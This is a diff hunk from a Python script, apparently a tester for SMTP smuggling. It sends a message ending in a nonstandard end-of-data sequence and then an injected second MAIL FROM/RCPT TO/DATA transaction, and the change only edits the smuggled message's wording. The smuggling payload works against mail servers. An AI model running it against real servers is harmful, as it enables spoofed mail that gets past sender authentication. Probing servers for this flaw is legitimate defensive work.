@@ -31,8 +31,8 @@ if kind in ("slow", "ready"):
     print(code, text.decode())
     sys.exit(0)
 end = kind.replace("r", "\r").replace("n", "\n").encode()
-smuggled = (f"MAIL FROM:<{sender}>\r\nRCPT TO:<{to}>\r\nDATA\r\nFrom: {sender}\r\nTo: {to}\r\nSubject: smuggled\r\n\r\n"
-            "smuggled\r\n").encode()
+smuggled = (f"MAIL FROM:<{sender}>\r\nRCPT TO:<{to}>\r\nDATA\r\nFrom: {sender}\r\nTo: {to}\r\nSubject: smuggled behind it\r\n\r\n"
+            "smuggled behind it\r\n").encode()
 s.send(dots.rstrip(b"\r\n") + end + smuggled + b".\r\nQUIT\r\n")
 taken = 0
 while True:
